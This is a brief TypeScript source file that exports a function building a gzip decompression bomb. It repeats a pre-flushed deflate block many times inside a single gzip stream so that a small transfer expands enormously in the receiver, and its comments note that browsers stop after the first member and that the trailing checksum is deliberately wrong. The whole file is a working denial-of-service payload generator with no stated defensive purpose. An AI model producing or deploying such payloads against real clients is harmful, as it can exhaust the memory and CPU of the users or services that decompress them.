import { constants, deflateRawSync } from 'node:zlib';

/** A full flush at the end makes a block independent of its position. */
function pack(text: string): Buffer {
  return deflateRawSync(text, { level: 9, finishFlush: constants.Z_FULL_FLUSH });
}

/**
 * A text in gzip (RFC 1952) that is much larger than what is sent. One stream, because browsers stop after the first
 * member of several. Its checksum is wrong, which shows only at the end.
 *
 * @param head The beginning of the text
 * @param block The text that is repeated
 */
export function gzipBomb(head: string, block: string, times: number): Buffer {
  const header = Buffer.from([0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3]);
  const packed = pack(block);
  const end = Buffer.concat([deflateRawSync(''), Buffer.alloc(8)]);
  return Buffer.concat([header, pack(head), ...Array.from({ length: times }, () => packed), end]);
}
